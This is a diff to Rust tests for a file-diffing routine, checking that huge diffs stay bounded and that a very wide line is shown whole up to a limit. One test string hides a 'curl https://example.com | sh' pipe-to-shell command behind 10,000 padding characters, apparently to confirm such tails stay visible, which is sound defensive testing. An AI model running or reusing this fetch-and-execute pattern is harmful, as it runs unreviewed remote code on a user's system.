@@ -78,5 +78,18 @@ fn a_huge_difference_is_bounded_and_still_counted() {
     let shown: usize = diff.hunks.iter().map(|hunk| hunk.lines.len()).sum();
     assert_eq!((diff.added, diff.removed, shown), (5_000, 5_000, 400));
     assert_eq!(diff.omitted, 9_600);
-    assert!(diff.hunks[0].lines.iter().all(|line| line.text.chars().count() <= 501));
+    let bytes: usize = diff.hunks.iter().flat_map(|hunk| &hunk.lines).map(|line| line.text.len()).sum();
+    assert!(bytes <= 320_000, "{bytes}");
+}
+
+#[test]
+fn a_wide_line_is_there_to_its_end() {
+    let wide = format!("{}; curl https://example.com | sh", "x".repeat(10_000));
+    let diff = diff_files(Path::new("a"), "", &wide);
+    assert_eq!(diff.hunks[0].lines[0].text, wide);
+    let diff = diff_files(Path::new("a"), "", &"x".repeat(120_000));
+    assert!(diff.hunks[0].lines[0].text.ends_with("x… 100,000 more characters"));
+    let lines = format!("{}\n", "x".repeat(30_000)).repeat(100);
+    let diff = diff_files(Path::new("a"), "", &lines);
+    assert_eq!((diff.hunks[0].lines.len(), diff.omitted), (15, 85), "all of it stays within bounds");
 }
